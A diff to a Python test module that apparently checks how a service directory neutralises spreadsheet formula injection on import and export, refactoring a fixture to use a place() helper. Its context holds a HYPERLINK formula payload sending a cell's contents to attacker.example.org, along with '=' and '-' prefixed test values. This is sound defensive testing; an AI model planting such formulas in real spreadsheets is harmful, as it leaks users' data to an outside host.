@@ -14,9 +14,9 @@ from hypothesis import strategies as st
 
 from directory.importing.csv_format import NUMBER_COLUMNS
 from directory.importing.spreadsheet import FORMULA_STARTS, neutralise, restore
-from directory.models import Location, Organisation, Service, ServiceAtLocation
+from directory.models import Location, Organisation, Service
 
-from .factories import OrganisationFactory, PhoneFactory, ServiceFactory
+from .factories import OrganisationFactory, PhoneFactory, ServiceFactory, place
 
 HYPERLINK = '=HYPERLINK("https://attacker.example.org/?d="&A1,"Click for help")'
 STORED = {
@@ -33,15 +33,7 @@ STORED = {
 def formula_service(db):
     service = ServiceFactory(organisation=OrganisationFactory(name="=1+1 Example Organisation"), **STORED)
     PhoneFactory(service=service, number="+44 1632 960000")
-    location = Location.objects.create(
-        name="-Example Centre",
-        address_1="1 Example Street",
-        town="Coventry",
-        postcode="CV1 1AA",
-        latitude=Decimal("52.410338"),
-        longitude=Decimal("-1.509154"),
-    )
-    ServiceAtLocation.objects.create(service=service, location=location)
+    place(service, "52.410338", "-1.509154", name="-Example Centre")
     return service
 
 
